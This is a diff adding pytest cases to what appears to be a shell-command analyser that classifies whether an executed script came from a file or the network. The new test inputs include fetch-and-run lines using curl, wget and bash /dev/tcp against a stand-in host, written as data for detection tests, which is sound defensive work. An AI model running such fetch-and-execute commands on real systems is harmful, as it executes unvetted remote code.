@@ -55,3 +55,23 @@ def test_copies_of_copies_do_not_grow_without_end(read: Callable[[str], Script])
     script = read("echo ls > f; " + "cp f g; cp g f; " * 100 + "bash f")
     assert script.dynamic
     assert script.commands[-1].origin is Origin.UNKNOWN
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -O https://e.example/a/f; bash f",
+        "curl -LO 'https://e.example/f?x=1#y' && sh ./f",
+        "wget -q https://e.example/f; sh f",
+        "source /dev/tcp/e.example/80",
+        "bash /dev/tcp/e.example/80",
+    ],
+)
+def test_a_file_that_is_saved_under_the_name_in_its_url_is_from_the_network(
+    read: Callable[[str], Script], text: str
+) -> None:
+    assert read(text).commands[-1].origin is Origin.NETWORK
+
+
+def test_another_file_than_the_one_that_was_fetched_is_a_file(read: Callable[[str], Script]) -> None:
+    assert read("curl -O https://e.example/f; bash g").commands[-1].origin is Origin.FILE
